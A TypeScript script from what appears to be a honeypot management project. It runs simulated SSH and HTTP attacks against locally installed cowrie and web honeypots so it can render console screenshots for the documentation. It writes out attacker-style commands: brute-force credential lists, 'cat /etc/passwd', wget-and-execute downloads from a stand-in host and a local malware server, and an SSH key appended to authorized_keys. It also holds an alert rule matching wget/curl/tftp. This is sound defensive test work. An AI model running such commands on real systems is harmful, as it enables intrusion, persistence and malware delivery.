/**
 * Renders a screenshot of each console page into docs/images/ (the README shows them):
 * a real Core and node, both built-in honeypots installed and attacked by OpenSSH and curl.
 * Run: bun scripts/console-screenshots.ts [name ...] (names like `overview`, `kind`: only those images).
 */
import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { stringify } from "../src/protocol/json";
import { EventStreamClient, freePort, getJson, until } from "../tests/helpers";
import { DROPPER, ELF, malwareServer, sha, sshFrom } from "../tests/helpers/artifact-attack";
import { httpAttack, launchBrowser, potsRunning, sshAttack, sshShell, startSystem } from "../tests/helpers/console";

const OUT = join(import.meta.dir, "..", "docs", "images");
const only = process.argv.slice(2);
const wanted = (name: string) => only.length === 0 || only.includes(name);
mkdirSync(OUT, { recursive: true });

await using sys = await startSystem();
const { core, nodeId, ports } = sys;
const command = (c: object) => getJson(`${core.api}/api/v1/nodes/${nodeId}/commands`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(c) });
await command({ InstallPot: { pot_id: "ssh-01", honeypot_type: "cowrie", config: { ssh_port: String(ports.ssh), telnet_port: String(ports.telnet), hostname: "db-prod-2" }, auto_start: true } });
await command({ InstallPot: { pot_id: "web-01", honeypot_type: "honnypotter", config: { http_port: String(ports.http) }, auto_start: true } });
await potsRunning(core, ["ssh-01", "web-01"]);

for (const [user, pw] of [["root", "toor"], ["admin", "admin"], ["root", "password"], ["ubuntu", "ubuntu"], ["oracle", "oracle123"], ["pi", "raspberry"]]) await sshAttack(ports.ssh, user!, pw!);
await sshAttack(ports.ssh, "root", "123456", "uname -a; cat /etc/passwd; wget http://198.51.100.9/x.sh -O /tmp/x.sh; chmod +x /tmp/x.sh");
// A shell session, recorded by the pot: the session page plays it.
await sshShell(ports.ssh, "root", "123456", ["uname -a", "cat /proc/cpuinfo | grep name | head -n 1", "wget http://198.51.100.9/bins/mips -O /tmp/.m", "busybox", "echo 'ssh-rsa AAAAB3Nza attacker' >> ~/.ssh/authorized_keys"]);
const shell = (await until(async () => {
  const s = (await getJson(`${core.api}/api/v1/sessions?login_success=true`)).body.sessions as { id: number; recording: boolean }[];
  const recorded = s.find((x) => x.recording);
  return recorded && (await getJson(`${core.api}/api/v1/sessions/${recorded.id}`)).body.recording_file?.received ? recorded : null;
}, "the shell's recording", 3000))!;
for (const [user, pw] of [["admin", "hunter2"], ["admin", "admin123"], ["wp-admin", "letmein"]]) await httpAttack(ports.http, user!, pw!);
await command({ GetPotStatus: "ssh-01" });
await until(async () => (await getJson(`${core.api}/api/v1/events?limit=1&event_type=honnypotter.login.failed`)).body.events.length > 0, "the events", 3000);

await using browser = await launchBrowser();
const shoot = async (path: string, name: string, opts: { width?: number; height?: number; scheme?: "dark" | "light"; full?: boolean } = {}) => {
  if (!wanted(name)) return;
  const page = await browser.newPage({ viewport: { width: opts.width ?? 1366, height: opts.height ?? 768 }, colorScheme: opts.scheme ?? "dark" });
  await page.goto(core.api + path);
  await page.waitForSelector("main h1");
  await page.waitForLoadState("networkidle").catch(() => {});
  await page.waitForTimeout(1200); // charts draw and the live page's counters tick once
  await page.screenshot({ path: join(OUT, `console-${name}.png`), fullPage: opts.full ?? false });
  console.log(`docs/images/console-${name}.png`);
  await page.close();
};

// The live page, with an attack happening while it is open.
if (wanted("live")) {
  const live = await browser.newPage({ viewport: { width: 1366, height: 768 }, colorScheme: "dark" });
  await live.goto(core.api + "/live");
  await live.waitForSelector(".dot.open");
  await sshAttack(ports.ssh, "root", "123456", "ls -la; ps aux");
  await httpAttack(ports.http, "administrator", "Summer2026!");
  await live.waitForSelector("text=Summer2026!");
  await live.screenshot({ path: join(OUT, "console-live.png") });
  console.log("docs/images/console-live.png");
  await live.close();
}

await shoot("/", "overview", { full: true });
await shoot("/events", "events");
await shoot("/attackers/127.0.0.1", "attacker", { height: 1000 });
await shoot("/nodes", "nodes");
await shoot(`/nodes/${nodeId}`, "node", { full: true });
await shoot("/", "overview-light", { scheme: "light" });
await shoot("/", "overview-phone", { width: 390, height: 844, full: false });
await shoot("/sessions", "sessions");
// Dashboards: a kind's (every cowrie pot) over the last 24 hours, a honeypot's over 7 days.
await shoot("/kinds/cowrie", "kind", { full: true });
await shoot("/pots/web-01?range=7d", "pot", { full: true });
// A session's page, its recording played to the end.
if (wanted("session")) {
  const page = await browser.newPage({ viewport: { width: 1366, height: 1700 }, colorScheme: "dark" });
  await page.goto(`${core.api}/sessions/${shell.id}`);
  await page.locator(".ap-player").click();
  await page.locator(".ap-term", { hasText: "authorized_keys" }).waitFor();
  await page.waitForTimeout(3000); // the player reaches the end of the recording
  await page.screenshot({ path: join(OUT, "console-session.png") });
  console.log("docs/images/console-session.png");
  await page.close();
}
// Malware: a second cowrie that may fetch from this machine, where a web server holds an ELF and
// a dropper; three attackers' wget bring them in. Installed last, so the pages above are as before.
if (wanted("artifacts") || wanted("artifact")) {
  using web = malwareServer();
  const url = `http://127.0.0.1:${web.port}`;
  const ssh02 = freePort();
  await command({ InstallPot: { pot_id: "ssh-02", honeypot_type: "cowrie", config: { ssh_port: String(ssh02), telnet_port: String(freePort()), hostname: "web-prod-1", download_private: "true" }, auto_start: true } });
  await potsRunning(core, ["ssh-02"]);
  await sshFrom(ssh02, "127.0.0.1", `cd /tmp; wget ${url}/x.sh; sh x.sh`);
  await sshFrom(ssh02, "127.0.0.2", `cd /tmp; wget ${url}/bins/x86; chmod +x x86; ./x86`);
  await sshFrom(ssh02, "127.0.0.3", `wget -O /tmp/.k ${url}/mirror/x86`);
  const elf = await until(async () => {
    const a = (await getJson(`${core.api}/api/v1/artifacts/${sha(ELF)}`)).body;
    return a.stored && a.sightings?.length === 2 && a.sightings.every((s: { session_id: number | null }) => s.session_id !== null) && a;
  }, "the artifacts", 3000);
  await until(async () => (await getJson(`${core.api}/api/v1/artifacts/${sha(DROPPER)}`)).body.sightings?.[0]?.session_id, "the dropper", 3000);
  await shoot("/artifacts", "artifacts");
  await shoot(`/artifacts/${elf.sha256}`, "artifact", { height: 900 });
}
// The attack map: the sensor placed in Frankfurt, events from public addresses on it (the attacks
// above come from this machine, which GeoIP does not place), and new ones arriving on the live feed.
if (wanted("map")) {
  await getJson(`${core.api}/api/v1/nodes/${nodeId}/location`, { method: "PUT", headers: { "content-type": "application/json" }, body: JSON.stringify({ lat: 50.11, lon: 8.68, label: "Frankfurt" }) });
  const from = ["8.8.8.8", "1.1.1.1", "77.88.8.8", "114.114.114.114", "200.160.2.3", "193.0.6.139", "213.186.33.5", "202.12.27.33", "203.116.1.1", "195.158.0.1", "41.203.0.1", "103.2.8.1", "210.0.128.1", "94.154.96.1"];
  const event = (src_ip: string) => stringify({ eventid: "cowrie.login.failed", node_id: BigInt(nodeId), pot_id: "ssh-01", pot_type: "cowrie", src_ip, username: "root", password: "admin" });
  using c = await EventStreamClient.connect(core.ports.event, { acks: true });
  const lines = from.flatMap((ip, i) => Array.from({ length: Math.max(1, 40 >> i) }, () => event(ip)));
  c.send(lines);
  await c.ack(lines.length);
  const page = await browser.newPage({ viewport: { width: 1366, height: 768 }, colorScheme: "dark" });
  await page.goto(`${core.api}/map?range=24h`);
  await page.locator('[data-testid="live-arcs"][data-feed="open"]').waitFor();
  await page.locator('[data-testid="arc"]').first().waitFor();
  c.send(from.slice(0, 9).map(event));
  await page.locator('[data-testid="live-arcs"][data-last]').waitFor();
  await page.waitForTimeout(400);
  await page.screenshot({ path: join(OUT, "console-map.png") });
  console.log("docs/images/console-map.png");
  await page.close();
}
// Settings: outputs (a webhook to a receiver here, a syslog whose receiver is away) and alert
// rules routed to them, the form for a new output open. Made last: the alerts would show on the pages above.
if (wanted("settings")) {
  const receiver = Bun.serve({ port: 0, hostname: "127.0.0.1", fetch: () => new Response("ok") });
  const call = (method: string, path: string, body?: unknown) =>
    getJson(`${core.api}${path}`, { method, headers: { "content-type": "application/json" }, body: body === undefined ? undefined : JSON.stringify(body) });
  await call("POST", "/api/v1/outputs", { name: "soar", type: "webhook", url: `http://127.0.0.1:${receiver.port}/hooks/honeybee`, secret: "change-me", from: "earliest" });
  await call("POST", "/api/v1/outputs", { name: "siem", type: "syslog", host: "127.0.0.1", port: freePort(), format: "cef", from: "earliest", retry: { min_backoff_ms: 1000, max_backoff_ms: 5000 } });
  await call("POST", "/api/v1/outputs", { name: "slack", type: "webhook", preset: "slack", url: `http://127.0.0.1:${receiver.port}/services/T0001/B0001/${"x".repeat(24)}1`, event_types: [] });
  await call("POST", "/api/v1/outputs/slack/pause");
  await call("POST", "/api/v1/rules", { name: "root-login", severity: "high", match: { event_type: "cowrie.login.success", fields: [{ field: "data.username", equals: "root" }] }, outputs: ["soar", "slack"] });
  await call("POST", "/api/v1/rules", { name: "download-command", severity: "critical", match: { event_type: "cowrie.command.input", fields: [{ field: "data.input", regex: "\\b(wget|curl|tftp)\\b" }] }, outputs: ["siem"] });
  await until(async () => {
    const o = (await call("GET", "/api/v1/outputs")).body.outputs as { status: { name: string; delivered: number; failed: number } }[];
    return o.find((x) => x.status.name === "soar")!.status.delivered > 0 && o.find((x) => x.status.name === "siem")!.status.failed > 0;
  }, "the outputs' first deliveries", 3000);
  const page = await browser.newPage({ viewport: { width: 1366, height: 768 }, colorScheme: "light" });
  await page.goto(`${core.api}/settings`);
  await page.locator('tr[data-output="siem"] td.last-error', { hasText: "ECONNREFUSED" }).or(page.locator('tr[data-output="siem"] td.last-error', { hasText: "refused" })).first().waitFor();
  await page.getByRole("button", { name: "New output" }).click();
  await page.getByTestId("output-form").waitFor();
  await page.waitForTimeout(300);
  await page.screenshot({ path: join(OUT, "console-settings.png"), fullPage: true });
  console.log("docs/images/console-settings.png");
  await page.close();
  receiver.stop(true);
}
